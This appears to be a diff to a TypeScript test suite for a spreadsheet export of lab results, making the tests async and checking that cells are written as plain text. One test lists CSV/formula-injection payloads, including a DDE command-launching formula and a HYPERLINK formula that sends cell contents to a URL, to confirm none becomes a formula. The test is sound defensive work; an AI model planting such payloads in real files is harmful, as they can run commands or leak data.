@@ -63,7 +63,7 @@ const leukocytes = reportTest({
   digits: 1,
 });
 const limits = { min: 4, max: 10 };
-const workbook = make(
+const workbook = await make(
   [leukocytes],
   [
     testHistory(1, [
@@ -132,7 +132,7 @@ describe('makeWorkbook', () => {
     }
   });
 
-  it('never writes a formula, whatever a text begins with (G3)', () => {
+  it('never writes a formula, whatever a text begins with (G3)', async () => {
     const payloads = [
       ...['=1+1', '+1+1', '-1+1', '@SUM(A1)', '\t=1', '=HYPERLINK("http://x?"&A1)'],
       ...["=cmd|' /C calc'!A0", '＝1', ';=1', '|=1', "'=1", '"=1"', '{=1}', '=', '+', '-'],
@@ -141,14 +141,14 @@ describe('makeWorkbook', () => {
       reportTest({ testId, name: payload, areaName: payload, unit: payload }),
     );
     const histories = payloads.map((result, id) => testHistory(id, [historyItem({ result })]));
-    const bytes = make(tests, histories);
+    const bytes = await make(tests, histories);
     const xml = [...partsOf(bytes)].filter(([path]) => path.includes('worksheets'));
     expect(xml).toHaveLength(2);
     for (const [, part] of xml) {
       expect(part).not.toMatch(/<f[ >]/);
       // A cell without type is a number; every text says that it is one.
       for (const [, type] of part.matchAll(/<c r="A\d+"(?: s="\d+")?(?: t="(\w+)")?>/g)) {
-        expect(type).toBe('s');
+        expect(type).toBe('str');
       }
     }
     const texts = linesOf(bytes, 'Datos')
@@ -179,15 +179,16 @@ describe('textCell', () => {
     expect(textCell('x'.repeat(32_767), cut)?.v).toBe('x'.repeat(32_767));
   });
 
-  it('any text comes back as it was, less what XML cannot carry (F1, G2)', () => {
+  it('any text comes back as it was, less what XML cannot carry (F1, G2)', async () => {
     const unit = fc.integer({ min: 0, max: 0xffff }).map((code) => String.fromCharCode(code));
     const texts = fc.array(fc.string({ unit, maxLength: 30 }), { maxLength: 12 });
-    fc.assert(
-      fc.property(texts, (results) => {
+    await fc.assert(
+      fc.asyncProperty(texts, async (results) => {
         const items = results.map((result, at) =>
           historyItem({ result, order: `${at}`, validateDate: null }),
         );
-        const lines = linesOf(make([reportTest({ testId: 1 })], [testHistory(1, items)]), 'Datos');
+        const bytes = await make([reportTest({ testId: 1 })], [testHistory(1, items)]);
+        const lines = linesOf(bytes, 'Datos');
         const back = new Map(lines.map((line) => [line[4], line[5]]));
         results.forEach((result, at) => {
           const written = result.trim() === '' ? 'Sin resultado' : textCell(result, cut)?.v;
